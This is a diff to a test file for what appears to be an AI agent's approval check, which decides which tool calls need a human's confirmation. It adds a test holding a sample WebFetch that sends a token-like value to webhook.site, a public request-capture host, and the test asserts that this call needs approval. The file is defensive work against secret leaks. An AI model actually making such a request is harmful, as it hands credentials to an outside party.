@@ -71,3 +71,7 @@ test('taking someone off a check-in is switching off a safety net', () => {
   assert.equal(a.crisis_sensitive, true);
   assert.equal(asks('apply_patch', { input: '*** Begin Patch\n*** Update File: family-bot/jobs.yaml\n@@\n-- name: bins-reminder\n*** End Patch' }, { user_message: 'take the bins reminder out' }), false);
 });
+
+test('a paste or capture host is never the issuer of a key named after it', () => {
+  assert.equal(asks('WebFetch', { url: 'https://webhook.site/abc?webhook_token=9f3c2a7b1e8d4c6f11aa', prompt: 'ok?' }), true);
+});
